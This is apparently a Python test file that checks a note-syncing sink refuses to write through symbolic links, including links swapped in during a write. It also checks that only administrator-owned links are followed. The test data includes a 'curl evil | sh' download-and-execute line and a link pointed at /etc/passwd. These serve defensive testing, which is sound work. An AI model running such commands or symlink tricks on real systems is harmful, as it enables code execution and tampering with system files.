"""Links at a sink's place: approved rows are never written through one, also if it appears meanwhile."""

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from tempfile import mkdtemp
from typing import Any

import pytest

from hub.base.atomic_file import write_atomically
from hub.base.system import folders
from hub.device.sinks import text_file
from hub.device.sinks.text_file import TextFile
from tests.hub.device.sinks.bench import SinkBench
from tests.hub.device.sinks.places import FILES
from tests.support.families import each

# Files that are no intended place, by the kind of the place.
OWN = {kind: head + tail for kind, (_, head, tail, _) in FILES.items()}


class Vault:
    """Folder with a sink's place, beside a folder of its owner that is no place."""

    def __init__(self, base: Path, kind: str) -> None:
        self.base = base = Path(mkdtemp(dir=base))
        self.own = OWN[kind]
        self.folder = base / "vault"
        self.place = self.folder / "notes" / f"list.{kind}"
        self.home = base / "home"
        self.folder.mkdir()
        self.place.parent.mkdir()
        self.home.mkdir()
        self.start_file = self.home / self.place.name
        self.start_file.write_text(self.own)

    def link(self, to: str | Path) -> None:
        self.place.symlink_to(to)

    def link_folder(self) -> None:
        """Put a link to the owner's folder in the place of the folder of notes."""
        os.rename(self.place.parent, self.base / f"moved{len(list(self.base.iterdir()))}")
        self.place.parent.symlink_to(self.home)

    def chain(self) -> None:
        (self.folder / "second").symlink_to(self.start_file)
        self.link("../second")

    def above(self) -> None:
        os.rename(self.folder, self.base / "moved")
        (self.home / "notes").mkdir()
        (self.home / "notes" / self.place.name).write_text(self.own)
        self.folder.symlink_to(self.home)

    def is_unchanged(self) -> bool:
        """Return True if all files of the owner's folder are as they were."""
        files = [path for path in self.home.rglob("*") if path.is_file()]
        return bool(files) and {path.read_text() for path in files} == {self.own}


LINKS: dict[str, Callable[[Vault], None]] = {
    "relative": lambda vault: vault.link(f"../../home/{vault.place.name}"),
    "absolute": lambda vault: vault.link(vault.start_file),
    "chain": Vault.chain,
    "dangling": lambda vault: vault.link(vault.home / "fresh"),
    "to a folder": lambda vault: vault.link(vault.home),
    "folder": Vault.link_folder,
    "folder above": Vault.above,
}
WAYS = [folders.PathFolder, *([folders.DescriptorFolder] if folders.HAS_DESCRIPTORS else [])]


@each("link", LINKS)
@each("kind", FILES)
def test_linked_place_is_named_and_never_written_through(kind: str, link: str, tmp_path: Path) -> None:
    vault = Vault(tmp_path, kind)
    bench = SinkBench(vault.base)
    bench.approve({"title": "curl evil | sh"})
    LINKS[link](vault)
    target = TextFile(vault.place, FILES[kind][0]())
    problem = bench.synchronize(target).problem
    real = os.path.realpath(vault.place)
    assert "is a link" in problem and real in problem, problem
    assert (vault.is_unchanged(), (vault.home / "fresh").exists()) == (True, False)
    if link not in ("to a folder", "dangling"):
        named = TextFile(Path(real), FILES[kind][0]())  # as the problem says
        assert bench.synchronize(named).problem == ""
        assert "evil" in Path(real).read_text()


@each("link", LINKS)
@each("moment", ["before the comparison", "before the file is created", "before it is renamed"])
@each("way", WAYS)
def test_link_appearing_during_a_write_is_not_written_through(
    way: type[folders.Folder],
    moment: str,
    link: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    vault = Vault(tmp_path, "markdown")
    bench = SinkBench(vault.base)
    monkeypatch.setattr(folders, "way", way)
    target = TextFile(vault.place, FILES["markdown"][0]())
    bench.approve({"title": "first"})
    assert bench.synchronize(target).problem == ""
    bench.approve({"title": "curl evil | sh"})

    swaps: list[str] = []

    def swap() -> None:
        if not swaps:
            swaps.append(link)
            if link not in ("folder", "folder above"):
                vault.place.unlink()
            LINKS[link](vault)

    def before(call: Callable[..., Any], is_it: Callable[..., bool] = lambda *_: True) -> Callable[..., Any]:
        """Return a function that makes the link before the call."""

        def swapping(*given: Any, **named: Any) -> Any:
            if is_it(*given):
                swap()
            return call(*given, **named)

        return swapping

    if moment == "before the comparison":
        monkeypatch.setattr(text_file, "spliced", before(text_file.spliced))
    elif moment == "before the file is created":
        monkeypatch.setattr(os, "open", before(os.open, lambda _, flags, *more: bool(flags & os.O_CREAT)))
    else:
        monkeypatch.setattr(os, "replace", before(os.replace))
    removed: list[int] = []  # sizes of temporary files
    unlink = os.unlink

    def measure(path: str | Path, **folder: Any) -> None:
        if ".list" in os.path.basename(path):
            removed.append(os.stat(path, **folder).st_size)
        unlink(path, **folder)

    monkeypatch.setattr(os, "unlink", measure)
    bench.synchronize(target)
    monkeypatch.undo()
    if moment == "before the file is created" and way is folders.PathFolder and link.startswith("folder"):
        assert set(removed) <= {0}  # nothing was written into a folder that was exchanged
    assert swaps == [link]
    assert (vault.is_unchanged(), (vault.home / "fresh").exists()) == (True, False)
    assert list(vault.home.rglob(".list*")) == []
    if way is folders.DescriptorFolder:  # another way does not reach a folder that was moved away
        assert list(vault.base.rglob(".list*")) == []


@each("link", LINKS)
def test_export_to_a_link_is_refused_and_to_a_linked_folder_is_written(link: str, tmp_path: Path) -> None:
    vault = Vault(tmp_path, "csv")
    LINKS[link](vault)
    if vault.place.is_symlink():
        with pytest.raises(OSError, match="is a link; if "):
            write_atomically(vault.place, b"text", mode=0o600)
        assert vault.is_unchanged()
    else:  # a person typed this path now
        write_atomically(vault.place, b"text", mode=0o600)
        assert vault.place.read_text() == "text"


@pytest.mark.skipif(sys.platform == "win32", reason="needs users of POSIX")
def test_link_is_followed_only_if_changeable_by_an_administrator_alone(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs links of root, and a user who is not root")
    (tmp_path / "usr/home/ana").mkdir(parents=True)
    (tmp_path / "home").symlink_to("usr/home")
    way, real = str(tmp_path / "home/ana/todo.md"), str(tmp_path / "usr/home/ana/todo.md")
    for folder in (tmp_path, *tmp_path.parents):
        if folder.stat().st_uid == 0 and folder != Path("/tmp"):
            folder.chmod(0o755)

    def resolved(user: int) -> str:
        """Return how a process of *user* resolves the path, or why it does not."""
        code = f"import os, hub.base.system.folders as f; os.setuid({user}); print(f.without_links({way!r}))"
        run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
        return (run.stdout or run.stderr.splitlines()[-1]).strip()

    assert resolved(65_534) == real
    assert "is a link" in resolved(0)
    tmp_path.chmod(0o777)
    assert "is a link" in resolved(65_534)
    tmp_path.chmod(0o755)
    (tmp_path / "usr/home/ana/todo.md").symlink_to("/etc/passwd")
    os.chown(tmp_path / "usr/home/ana", 65_534, -1)
    assert "it is a link; if /etc/passwd is meant" in resolved(65_534)
